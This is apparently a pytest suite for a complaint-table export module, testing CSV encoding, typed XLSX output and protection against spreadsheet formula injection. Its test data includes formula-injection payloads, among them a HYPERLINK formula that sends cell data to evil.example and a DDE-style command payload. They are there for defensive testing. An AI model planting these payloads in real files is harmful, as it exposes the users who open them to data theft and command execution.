"""Tables as files: CSV with a byte-order mark, typed XLSX, and formula-like text neutralised,
read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest

from pulse.export import tables

# complaint texts a customer could type; each would run as a formula if pasted raw
FORMULA_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"refund")',
    "+86 138 0000 0000 called twice",
    "-1 star, never again",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def complaints() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "complaint_id": [f"CP202610{i:06d}" for i in range(len(FORMULA_TEXTS) + 1)],
            "text": [*FORMULA_TEXTS, "网络信号差，投诉三次"],
            "received_at": pd.to_datetime(["2026-10-30 09:15:00"] * (len(FORMULA_TEXTS) + 1)),
            "due_on": [dt.date(2026, 11, 14)] * (len(FORMULA_TEXTS) + 1),
            "hours_to_resolve": [12.5, 3.25, 48.0, 0.5, 7.0, 1.0, 30.75],
            "n_contacts": [1, 2, 3, 1, 1, 2, 4],
            "rate": [0.125, 0.5, 0.25, 0.75, 0.1, 0.2, 0.3],
        }
    )


def test_csv_starts_with_a_byte_order_mark_and_keeps_chinese(complaints):
    data = tables.to_csv(complaints)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[-1]["text"] == "网络信号差，投诉三次"
    assert rows[-1]["n_contacts"] == "4"


def test_csv_neutralises_formula_like_complaint_text(complaints):
    rows = list(
        csv.DictReader(io.StringIO(tables.to_csv(complaints).decode("utf-8-sig"), newline=""))
    )
    texts = [r["text"] for r in rows]
    assert texts[: len(FORMULA_TEXTS)] == ["'" + t for t in FORMULA_TEXTS]
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    assert texts[-1] == "网络信号差，投诉三次"  # ordinary text is untouched


def test_a_formula_like_column_name_is_neutralised_too():
    frame = pd.DataFrame({"=cmd()": [1]})
    assert tables.to_csv(frame).decode("utf-8-sig").splitlines()[0] == "'=cmd()"


def _sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_xlsx_has_caption_on_top_a_frozen_header_and_typed_cells(complaints):
    ws = _sheet(
        tables.to_xlsx(
            complaints,
            "Shenzhen · 2 Oct – 31 Oct 2026",
            title="Complaints",
            notes=["n = 7 · Data as of 2026-10-31"],
            formats={"rate": "pct1"},
        )
    )
    assert [ws.cell(r, 1).value for r in (1, 2, 3)] == [
        "Complaints",
        "Shenzhen · 2 Oct – 31 Oct 2026",
        "n = 7 · Data as of 2026-10-31",
    ]
    assert [c.value for c in ws[5]] == list(complaints.columns)
    assert ws.freeze_panes == "A6"
    last = {c.column_letter: c for c in ws[12]}
    assert last["C"].value == dt.datetime(2026, 10, 30, 9, 15)
    assert last["C"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert last["D"].value == dt.datetime(2026, 11, 14)
    assert last["D"].number_format == "yyyy-mm-dd"
    assert last["E"].value == 30.75 and last["E"].data_type == "n"
    assert last["F"].value == 4 and last["F"].number_format == "#,##0"
    assert last["G"].value == 0.3 and last["G"].number_format == "0.0%"
    assert ws.column_dimensions["B"].width > ws.column_dimensions["F"].width


def test_xlsx_keeps_formula_like_text_as_text_never_as_a_formula(complaints):
    ws = _sheet(tables.to_xlsx(complaints))
    cells = [ws.cell(r, 2) for r in range(2, 2 + len(FORMULA_TEXTS))]
    assert [c.value for c in cells] == FORMULA_TEXTS
    assert all(c.data_type == "s" for c in cells)  # a string, not 'f' (formula)
    assert all(c.quotePrefix for c in cells)  # Excel's own mark for "this is text"


def test_missing_values_are_empty_cells_and_a_styler_exports_its_data():
    frame = pd.DataFrame({"city": ["GZ", "SZ"], "value": [0.5, float("nan")]}).set_index("city")
    ws = _sheet(tables.to_xlsx(frame.style.highlight_max()))
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["city", "value"],
        ["GZ", 0.5],
        ["SZ", None],
    ]


def test_sheet_titles_are_made_legal():
    assert (
        tables.sheet_title("2.1 Surveys: every metric [all]") == "2.1 Surveys_ every metric _all_"
    )
    assert len(tables.sheet_title("x" * 40)) == 31


def test_xlsx_drops_control_characters_it_cannot_hold_and_keeps_tab_and_newlines():
    frame = pd.DataFrame(
        {
            "comment": ["slow\x00queue", "bad\x01 and \x0bworse", "tab\tnew line\r\nkept"],
            "n\x02": [1, 2, 3],
        }
    )
    data = tables.to_xlsx(frame, "caption\x1f", sheet="sheet\x00", title="title\x0c")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["sheet"]
    assert [[c.value for c in row] for row in book.active.iter_rows()] == [
        ["title", None],
        ["caption", None],
        [None, None],
        ["comment", "n"],
        ["slowqueue", 1],
        ["bad and worse", 2],
        ["tab\tnew line\r\nkept", 3],
    ]
